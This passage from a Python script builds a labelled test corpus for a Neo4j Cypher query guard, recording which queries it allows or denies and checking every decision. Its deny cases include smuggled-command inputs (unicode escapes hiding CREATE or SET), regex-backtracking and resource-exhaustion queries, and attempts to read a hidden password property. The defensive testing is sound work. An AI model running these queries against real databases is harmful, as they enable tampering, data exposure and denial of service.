    label="MALFORMED",
    tags=["unterminated-string", "escape"],
)
add("MATCH (n:`unterminated) RETURN n", "deny", "parse.failed", label="MALFORMED", tags=["unterminated-backtick"])
add(
    "USING PERIODIC COMMIT LOAD CSV FROM 'file:///x' AS l CREATE (:X)",
    "deny",
    "parse.failed",
    label=W,
    tags=["neo4j-4-syntax"],
)
add("MATCH (n) FINISH", "allow", None, label=R, tags=["finish"])
add("MATCH (n) FINISH", "allow", None, label=R, tags=["finish", "policy-variant"], policy="permissive")
add("EXPLAIN CYPHER 5 MATCH (n) RETURN n", "deny", "query.prefix", label="OPTION", tags=["explain"])

# ---------------------------------------------------------------- Cypher 5 families once refused as parse errors
for q, tags in [
    ("MATCH (n) ORDER BY n.name LIMIT 3 RETURN n", ["standalone-order-by"]),
    ("MATCH (n) OFFSET 1 RETURN n", ["standalone-offset"]),
    ("MATCH (n) SKIP 1 LIMIT 2 WITH n RETURN n.name AS name", ["standalone-skip-limit"]),
    ("MATCH (n) WITH n FINISH", ["finish"]),
    ("RETURN 'a' IS NFC NORMALIZED AS x, 'b' IS NOT NORMALIZED AS y", ["is-normalized"]),
    ("MATCH (n) WHERE n.name IS NOT NFKD NORMALIZED RETURN n", ["is-normalized"]),
    (
        "WITH 3 AS v RETURN CASE v WHEN IS NULL THEN 0 WHEN < 0 THEN 1 WHEN 2, 4, 6 THEN 2 WHEN :: INTEGER | FLOAT THEN 3 END AS c",
        ["extended-case"],
    ),
    (
        "WITH 'a' AS v RETURN CASE v WHEN STARTS WITH 'a' THEN 1 WHEN IS NOT NULL THEN 2 ELSE 3 END AS c",
        ["extended-case"],
    ),
    ("WITH 1 AS is RETURN CASE 'a' WHEN is :: STRING THEN 1 ELSE 0 END AS c", ["extended-case", "keyword-variable"]),
    ("MATCH (n) RETURN trim(BOTH 'x' FROM n.name) AS a, trim(LEADING FROM ' a') AS b", ["trim-from"]),
    ("RETURN trim(TRAILING 'x' FROM 'axx') AS t", ["trim-from"]),
    ("MATCH (n) RETURN count(ALL n) AS c", ["aggregate-all"]),
    ("WITH 1 AS all RETURN count(all - 1) AS c", ["aggregate-all", "keyword-variable"]),
    ("RETURN 1 IS :: INTEGER | FLOAT AS a, [1] IS :: LIST<INTEGER NOT NULL> AS b", ["composite-type"]),
    ("RETURN datetime() IS :: ZONED DATETIME AS a, time() IS :: TIME WITH TIME ZONE AS b", ["multi-word-type"]),
    ("RETURN 1 IS :: ANY<INTEGER | FLOAT> AS a, 1 IS :: INTEGER NOT NULL LIST AS b", ["composite-type"]),
    (
        "MATCH p = SHORTEST 1 (q = (a)-[:KNOWS]-{1,4}(b) WHERE length(q) > 1) RETURN p",
        ["gql-shortest", "group-variable"],
    ),
    ("MATCH ALL SHORTEST (q = (a)-[:KNOWS]-{1,4}(b) WHERE length(q) > 1) RETURN q", ["gql-shortest", "group-variable"]),
    ("MATCH p = ANY SHORTEST ((a)-[:KNOWS]-{1,4}(b) WHERE a <> b) RETURN p", ["gql-shortest", "group-where"]),
    ("CYPHER runtime=slotted MATCH (n) RETURN n", ["planner-option"]),
    ("CYPHER planner=dp connectComponentsPlanner=greedy MATCH (n) RETURN n", ["planner-option"]),
]:
    add(q, "allow", label=R, tags=["cypher5-family", *tags])
add("MATCH (n:$($label)) RETURN n", "allow", label=R, tags=["dynamic-label"], params={"label": "Person"})
add("MATCH ()-[r:$any($types)]->() RETURN r", "allow", label=R, tags=["dynamic-type"], params={"types": ["KNOWS"]})
add(
    "MATCH ()-[r:$($type)]->() RETURN r",
    "deny",
    "relationship.denied",
    label="SCOPE",
    tags=["dynamic-type", "bookkeeping"],
    params={"type": "SUPERSEDES"},
    note="a dynamic type is resolved from its parameter and checked like a written one",
)
add(
    "MATCH (a) MATCH ()-[r:$(a.kind)]->() RETURN r",
    "deny",
    "relationship.denied",
    label="SCOPE",
    tags=["dynamic-type"],
    note="a type computed at run time cannot be checked against the deny-list",
)
for q, rule, tags in [
    ("CYPHER debug=tostring MATCH (n) RETURN n", "query.option", ["query-option"]),
    ("CYPHER replan=force MATCH (n) RETURN n", "query.option", ["query-option"]),
    ("CYPHER runtime=legacy MATCH (n) RETURN n", "query.option", ["query-option"]),
    ("CYPHER 4 MATCH (n) RETURN n", "query.option", ["cypher-version"]),
]:
    add(q, "deny", rule, label="OPTION", tags=tags)

# ---------------------------------------------------------------- Cypher 25 (plans only on Neo4j 2026.x)
C25 = ["cypher25"]
for q, tags, params in [
    ("CYPHER 25 MATCH (n:Person) LET name = n.name, a = n.age RETURN name, a", ["let"], None),
    ("CYPHER 25 MATCH (n:Person) FILTER WHERE n.age > 30 RETURN n.name", ["filter"], None),
    ("CYPHER 25 MATCH (n) FILTER n:$($label) RETURN n", ["filter", "dynamic-label"], {"label": "Person"}),
    ("CYPHER 25 MATCH (n:Person) RETURN n.name AS name NEXT RETURN count(name) AS c", ["next"], None),
    ("CYPHER 25 MATCH (n:Person) RETURN n NEXT MATCH (n)-[:KNOWS]->(m) RETURN m.name AS m", ["next"], None),
    (
        "CYPHER 25 MATCH (n) RETURN n.a AS a UNION MATCH (n) RETURN n.b AS a NEXT RETURN count(*) AS c",
        ["next", "union"],
        None,
    ),
    (
        "CYPHER 25 WHEN $x > 1 THEN MATCH (n:Person) RETURN n.name AS r ELSE MATCH (m:Movie) RETURN m.title AS r",
        ["when"],
        {"x": 2},
    ),
    (
        "CYPHER 25 MATCH (n:Person) CALL (n) { WHEN n.age > 30 THEN RETURN 'old' AS k ELSE RETURN 'young' AS k } RETURN n.name, k",
        ["when", "call"],
        None,
    ),
    ("CYPHER 25 FOR x IN [1, 2, 3] RETURN x", ["for"], None),
    (
        "CYPHER 25 MATCH (n) RETURN n IS LABELED Person AS p, n IS NOT LABELED Person AS q, n IS NOT Person AS s",
        ["is-labeled"],
        None,
    ),
    ("CYPHER 25 MATCH (n) RETURN n:$($label) AS has", ["dynamic-label"], {"label": "Person"}),
    ("CYPHER 25 MATCH REPEATABLE ELEMENTS p = (a)-[:KNOWS]-{1,3}(b) RETURN p", ["match-mode"], None),
    ("CYPHER 25 MATCH DIFFERENT RELATIONSHIPS (a)-[:KNOWS]-(b) RETURN a, b", ["match-mode"], None),
    ("CYPHER 25 MATCH p = ANY SHORTEST TRAIL (a)-[:KNOWS]-{1,3}(b) RETURN p", ["path-mode", "gql-shortest"], None),
    (
        "CYPHER 25 WITH 3 AS v RETURN CASE v WHEN IS :: INTEGER THEN 3 WHEN IN [1] THEN 4 END AS c",
        ["extended-case"],
        None,
    ),
    ("CYPHER 25 RETURN allReduce(acc = 0, x IN [1, 2] | acc + x, acc < 10) AS ok", ["all-reduce"], None),
    (
        "CYPHER 25 RETURN coll.sort([3, 1, 2]) AS s, string.join(['a'], ',') AS j, cardinality([1]) AS c",
        ["functions"],
        None,
    ),
    ("CYPHER 25 MATCH (n) RETURN property_exists(n, name) AS e", ["functions"], None),
    ("CYPHER 25 RETURN ALL 1 AS x", ["return-all"], None),
    ("CYPHER 25 RETURN COLLECT { MATCH (n) RETURN n.x AS x NEXT RETURN x } AS xs", ["next", "collect"], None),
]:
    add(q, "allow", label=R, tags=[*C25, *tags], params=params)
for q, rule, tags in [
    (
        "CYPHER 25 MATCH (m:Movie) SEARCH m IN (VECTOR INDEX i FOR [1.0] LIMIT 5) RETURN m",
        "cypher25.unsupported",
        ["search"],
    ),
    ("CYPHER 25 MATCH (n) RETURN n.a AS a, count(*) AS c GROUP BY a", "cypher25.unsupported", ["group-by"]),
    ("CYPHER 25 MATCH (n) RETURN n NEXT CREATE (m:Pwned)", "write.clause", ["next"]),
    ("CYPHER 25 WHEN true THEN CREATE (:Pwned) ELSE CREATE (:Pwned)", "write.clause", ["when"]),
    ("CYPHER 25 FOR x IN [1] CREATE (:Pwned)", "write.clause", ["for"]),
    ("CYPHER 25 MATCH (n) LET x = 1 SET n.pwned = x", "write.clause", ["let"]),
    ("CYPHER 25 MATCH (n) CALL (n) { WHEN true THEN SET n.pwned = 1 } RETURN n", "write.clause", ["when", "call"]),
    ("MATCH (n:Person) LET x = 1 RETURN x", "parse.failed", ["let", "needs-prefix"]),
]:
    add(q, "deny", rule, label="CYPHER25", tags=[*C25, *tags])

# Neo4j 5.26 decodes \uXXXX before lexing (its EXPLAIN plans these as writes).
U = "UNICODE-ESCAPE"
add(
    "RETURN '\\u0027 CREATE (x) //' AS s",
    "deny",
    "parse.failed",
    label=U,
    tags=["unicode-escape", "string"],
    note="Neo4j reads '' then a live CREATE (EXPLAIN: 'RETURN can only be used at the end')",
)
add(
    "MATCH (n) WHERE n.x = '\\u0027 SET n.pwned = true //' RETURN n",
    "deny",
    "parse.failed",
    label=U,
    tags=["unicode-escape", "string", "write"],
)
add(
    "MATCH (n) // \\u000a SET n.x = 1 RETURN n",
    "deny",
    "parse.failed",
    label=U,
    tags=["unicode-escape", "line-comment"],
    note="\\u000a ends the // comment in Neo4j",
)
add(
    "MATCH (n) /* \\u002a/ SET n.x = 1 /* */ RETURN n",
    "deny",
    "parse.failed",
    label=U,
    tags=["unicode-escape", "block-comment"],
)
add(
    "MATCH (n:`a\\u0060) SET n.x = 1 //`) RETURN n",
    "deny",
    "parse.failed",
    label=U,
    tags=["unicode-escape", "backtick"],
)
add(
    "RETURN '\\\\u0027' AS s",
    "deny",
    "parse.failed",
    label=U,
    tags=["unicode-escape", "conservative"],
    note="Neo4j does not decode an escaped backslash's u0027; refused anyway (conservative, documented)",
)
add(
    "RETURN '\\u00e9t\\u00e9' AS s",
    "allow",
    None,
    label=R,
    tags=["unicode-escape", "letters"],
    note="escapes decoding to letters are harmless",
)
add(
    "MATCH (n) WHERE n.x <> 1 AND n.y != 2 RETURN n",
    "deny",
    "parse.failed",
    label="MALFORMED",
    tags=["inequality"],
    note="Neo4j 5 rejects != ('Unknown operation'); so does the guard",
)
add(
    "CALL DB.LABELS() YIELD label RETURN label",
    "deny",
    "procedure.not_allowed",
    label=P,
    tags=["case"],
    note="Neo4j resolves procedure names case-sensitively; DB.LABELS does not exist",
)

for q, tags in [
    ("MATCH (s:Secret) RETURN s", ["denied-label"]),
    ("MATCH (n) WHERE n:Secret RETURN n", ["label-check"]),
    ("MATCH (n) WHERE EXISTS { (n)-->(:`Secret`) } RETURN n", ["exists", "backticks"]),
    ("MATCH (n:Public|Secret) RETURN n", ["label-expression"]),
]:
    add(q, "deny", "label.denied", label=S, tags=tags, policy="permissive", note="the test policy denies label Secret")

add(
    "UNWIND $rows AS row MATCH (n {id: row.id}) RETURN$n, row",
    "deny",
    "parse.failed",
    label="MALFORMED",
    tags=["dollar-in-identifier"],
    note="Neo4j reads RETURN$n as one identifier",
)

# Schema procedures under the default policy (the parser reads them above, under the permissive one).
for q, tags in reads:
    if "schema-procedure" in tags:
        add(
            q,
            "deny",
            "procedure.not_allowed",
            label="READ-REFUSED-BY-POLICY",
            tags=tags,
            note="labels, types and keys only hidden elements carry would be listed; the schema tool answers scoped",
        )
# what one evaluation of an expression may build and iterate: Neo4j stops neither at its timeout
X = "EXHAUSTION"
refused: list[tuple[str, str, list[str], dict[str, Any]]] = [
    ("RETURN size([x IN range(1, 60000000) | x]) AS v", "size.range", ["range", "heap"], {}),
    ("RETURN size([x IN range(1, $n) | x]) AS v", "size.range", ["range", "parameter"], {"n": 60_000_000}),
    ("RETURN reduce(s = 0, x IN range(1, 1000000000) | s + x) AS v", "size.range", ["range", "cpu"], {}),
    ("UNWIND range(1, toInteger($n) * 10) AS x RETURN count(x)", "size.range", ["range", "arithmetic"], {"n": 1e6}),
    ("MATCH (n) RETURN range(1, n.count) AS v", "size.range", ["range", "data-bound"], {}),
    (
        "RETURN size([x IN range(1, 10000) | [y IN range(1, 10000) | y]]) AS v",
        "size.iterations",
        ["nested-comprehension"],
        {},
    ),
    (
        "MATCH (n) WITH collect(n.i) AS l RETURN reduce(s = 0, a IN l | s + reduce(t = 0, b IN l | t + 1)) AS v",
        "size.iterations",
        ["data-squared", "reduce"],
        {},
    ),
    (
        "MATCH (n) WITH collect(n.x) AS l RETURN [x IN l WHERE l = l] AS v",
        "size.iterations",
        ["data-squared", "comparison"],
        {},
    ),
    (
        "MATCH (n) WITH collect(n.x) AS l RETURN [x IN l WHERE x IN l] AS v",
        "size.iterations",
        ["data-squared", "in"],
        {},
    ),
    ("RETURN size([x IN range(1, 1000000) | {a: x, b: toString(x)}]) AS v", "size.elements", ["maps", "heap"], {}),
    (
        "WITH range(1, 1000) AS a WITH [x IN range(1, 1000) | a] AS b RETURN [y IN range(1, 1000) | b] AS v",
        "size.elements",
        ["shared-reference", "serialisation"],
        {},
    ),
    ("MATCH (n) WITH collect(n.name) AS l RETURN [x IN l | l] AS v", "size.elements", ["data-squared"], {}),
    (
        "MATCH (n) WITH collect(n) AS ns RETURN [x IN ns | {id: x.id, title: x.title}] AS v",
        "size.elements",
        ["maps-per-data-element"],
        {},
    ),
    (
        "UNWIND range(1, 1000) AS i WITH collect(range(1, 1000000)) AS l RETURN l",
        "size.elements",
        ["collect", "lazy-range"],
        {},
    ),
    ("RETURN size(" + "replace(" * 8 + "'a'" + ", 'a', 'aaaaaaaaaa')" * 8 + ") AS v", "size.string", ["replace"], {}),
    (
        "WITH 'xxxxxxxxxx' AS s " + "WITH s + s AS s " * 21 + "RETURN size(s) AS v",
        "size.string",
        ["doubling", "with-chain"],
        {},
    ),
    (
        "MATCH (n) WITH collect(n) AS l RETURN [x IN l | $big] AS v",
        "size.string",
        ["data-times-parameter"],
        {"big": "x" * 1000},
    ),
    ("RETURN size(reduce(s = 'x', i IN range(1, 40) | s + s)) AS v", "size.accumulator", ["doubling", "reduce"], {}),
    (
        "RETURN size(reduce(s = '', x IN range(1, 100000) | s + 'abcdefghij')) AS v",
        "size.accumulator",
        ["quadratic-copy"],
        {},
    ),
    ("RETURN size(reduce(l = [], x IN range(1, 30000) | l + x)) AS v", "size.accumulator", ["list-append"], {}),
    (
        "MATCH (n) WITH collect(n.name) AS l RETURN reduce(s = '', t IN l | s + t) AS v",
        "size.accumulator",
        ["quadratic-copy", "data"],
        {},
    ),
    ("RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(.*a){25}b' AS v", "regex.backtracking", ["redos"], {}),
    ("MATCH (n) WHERE n.name =~ '(a+)+b' RETURN n", "regex.backtracking", ["redos", "nested-quantifier"], {}),
    ("MATCH (n) WHERE n.name =~ n.pattern RETURN n", "regex.backtracking", ["redos", "data-pattern"], {}),
    ("MATCH (n) WHERE n.name =~ '.*a.*b.*c' RETURN n", "regex.backtracking", ["redos", "polynomial"], {}),
    ("MATCH (n) WHERE n.name =~ $re RETURN n", "regex.backtracking", ["redos", "parameter"], {"re": "(x|xx)*y"}),
    # Expression work Neo4j cannot interrupt: searches, comparisons, copies, regex operands anywhere.
    (
        "WITH replace($a, 'a', $a) AS s RETURN s CONTAINS $n AS v",
        "size.iterations",
        ["string-search", "freeze"],
        {"a": "a" * 3000, "n": "b" * 20000},
    ),
    (
        "RETURN size([i IN range(1, $k) WHERE [a] = [b]]) AS v".replace("a]", "range(1, 999000)]").replace(
            "b]", "range(1, 999000)]"
        ),
        "size.iterations",
        ["list-equality"],
        {"k": 100},
    ),
    (
        "RETURN size(reduce(s = '', x IN range(1, 10000) | s + $c)) AS v",
        "size.accumulator",
        ["quadratic-copy", "reduce"],
        {"c": "x" * 999},
    ),
    (
        "RETURN CASE $s WHEN =~ '((a+)+)+b' THEN 1 ELSE 0 END AS v",
        "regex.backtracking",
        ["redos", "extended-case"],
        {"s": "a" * 40},
    ),
    (
        "MATCH (n) RETURN CASE n.uid WHEN =~ n.s THEN 1 ELSE 0 END AS v",
        "regex.backtracking",
        ["redos", "extended-case", "data-pattern"],
        {},
    ),
    (
        "MATCH (n) RETURN apoc.text.regexGroups(n.name, '(a+)+b') AS v",
        "function.unreviewed",
        ["unreviewed-function"],
        {},
    ),
    (
        "MATCH (n) WHERE " + " OR ".join(f"n.x = {i}" for i in range(150)) + " RETURN n",
        "size.operands",
        ["boolean-chain"],
        {},
    ),
]
for q, rule, tags, params in refused:
    add(q, "deny", rule, label=X, tags=tags, params=params)
allowed: list[tuple[str, list[str], dict[str, Any]]] = [
    ("RETURN size([x IN range(1, 900) | [y IN range(1, 900) | y]]) AS v", ["nested-comprehension"], {}),
    ("RETURN reduce(s = 0, x IN range(1, 1000000) | s + x) AS v", ["reduce"], {}),
    ("MATCH (a), (b) RETURN count(*) AS c", ["cartesian", "operator"], {}),
    ("UNWIND range(1, 1000000) AS x WITH collect(x) AS l RETURN size(l) AS n", ["collect", "operator"], {}),
    ("MATCH p = (a)-[*1..8]->(b) RETURN [x IN nodes(p) | x.name] AS names", ["path"], {}),
    ("MATCH p = (a)-[*1..8]->(b) RETURN reduce(s = '', n IN nodes(p) | s + n.name + '/') AS v", ["path", "reduce"], {}),
    ("MATCH (n) WHERE any(t IN n.tags WHERE t IN $wanted) RETURN n", ["stored-list"], {"wanted": ["a", "b"]}),
    ("MATCH (n) RETURN collect({id: n.id, title: n.title}) AS cards", ["collect", "maps"], {}),
    ("MATCH (n) WITH collect(n.x) AS l RETURN [i IN range(0, size(l) - 1) | l[i]] AS v", ["range-of-size"], {}),
    ("MATCH (a), (b) WHERE any(t IN a.tags WHERE t IN b.tags) RETURN a.id, b.id", ["stored-times-stored"], {}),
    ("MATCH (n) RETURN reduce(s = '', t IN n.tags | s + t + ',') AS v", ["stored-list", "reduce"], {}),
    ("MATCH (n) WHERE n.name =~ '(?i).*foo.*' RETURN n", ["regex"], {}),
    ("MATCH (n) WHERE n.name =~ $re RETURN n", ["regex", "parameter"], {"re": "^[a-z]+-[0-9]{4}$"}),
    ("MATCH (n) RETURN [k IN keys(n) | n[k]] AS v", ["stored-times-stored"], {}),
    # Comparing a stored value is one step, however many comparisons a condition chains.
    ("MATCH (n) WHERE n.a = 1 OR n.b = 2 OR n.c = 3 OR n.d = 4 OR n.e = 5 OR n.f <> 6 RETURN n", ["comparisons"], {}),
    # Searches with a needle of a few hundred characters, a checked regex in an extended CASE.
    ("MATCH (n) WHERE n.title CONTAINS $q OR n.name STARTS WITH $q RETURN n", ["string-search"], {"q": "graph" * 20}),
    (
        "MATCH (n) RETURN CASE n.id WHEN =~ 'task-[0-9]+' THEN 'task' ELSE 'other' END AS kind",
        ["extended-case", "regex"],
        {},
    ),
    ("MATCH (n) RETURN [t IN n.tags WHERE t = $tag] = [$tag] AS v", ["list-equality"], {"tag": "a"}),
]
for q, tags, params in allowed:
    add(q, "allow", None, label=R, tags=tags, params=params)

# Hidden properties under the test policy (it hides Secret.password): named anywhere, or reached
# by whatever copies every property, refused; the element returned whole is allowed (the sandbox strips it).
for q, expect, tags in [
    ("MATCH (n) RETURN n.password", "deny", ["hidden-property", "projection"]),
    ("MATCH (n) WHERE n.password STARTS WITH 'a' RETURN count(n)", "deny", ["hidden-property", "where"]),
    ("MATCH (n) RETURN n.id ORDER BY n.password", "deny", ["hidden-property", "orderby"]),
    ("MATCH (n) RETURN n {.id, .password}", "deny", ["hidden-property", "map-projection"]),
    ("MATCH (n) RETURN n {.*}", "deny", ["hidden-property", "map-projection-all"]),
    ("MATCH (n) RETURN properties(n)", "deny", ["hidden-property", "properties"]),
    ("MATCH (n) RETURN keys(n)", "deny", ["hidden-property", "keys"]),
    ("MATCH (n) RETURN n['pass' + 'word']", "deny", ["hidden-property", "dynamic-access"]),
    ("MATCH (n) RETURN n, n.id", "allow", ["hidden-property", "whole-element"]),
]:
    add(q, expect, "property.hidden" if expect == "deny" else None, label=S if expect == "deny" else R, tags=tags,
        policy="permissive", note="the test policy hides password")  # fmt: skip

# The allow-list under its test policy (Secret shows id; every other label id and name): a key
# listed nowhere, or in another case, is refused wherever it is named; whole elements are allowed.
for q, expect, tags in [
    ("MATCH (n) RETURN n.password", "deny", ["not-visible-property", "projection"]),
    ("MATCH (n) WHERE n.password STARTS WITH 'a' RETURN count(n)", "deny", ["not-visible-property", "where"]),
    ("MATCH (n) RETURN n.ID", "deny", ["not-visible-property", "exact-case"]),
    ("MATCH (n) RETURN n {.*}", "deny", ["not-visible-property", "map-projection-all"]),
    ("MATCH (n) RETURN properties(n)", "deny", ["not-visible-property", "properties"]),
    ("MATCH (n) RETURN keys(n)", "deny", ["not-visible-property", "keys"]),
    ("MATCH (n) RETURN n, n.id, n.name", "allow", ["not-visible-property", "whole-element"]),
]:
    add(q, expect, "property.not_visible" if expect == "deny" else None, label=S if expect == "deny" else R,
        tags=tags, policy="allowlist", note="the test policy lists id and name")  # fmt: skip

# sanity: every case decides as labelled with the current guard
bad = []
for c in out:
    dec = check(c["query"], c["params"], c["tool"], POL[c["policy"]])
    got = "allow" if dec.allowed else "deny"
    if got != c["expect"] or (c["expect"] == "deny" and dec.rule != c["rule"]):
        bad.append((c["id"], c["origin"], c["expect"], c["rule"], got, dec.rule, dec.reason, c["query"][:100]))
for b in bad:
    print("MISMATCH", b)
print(len(out), "cases;", sum(c["expect"] == "deny" for c in out), "deny;", len(bad), "mismatches")
if bad:
    sys.exit(1)
with open(REPO / "tests/corpus/guard.jsonl", "w") as f:
    for c in out:
        f.write(json.dumps(c, ensure_ascii=True) + "\n")
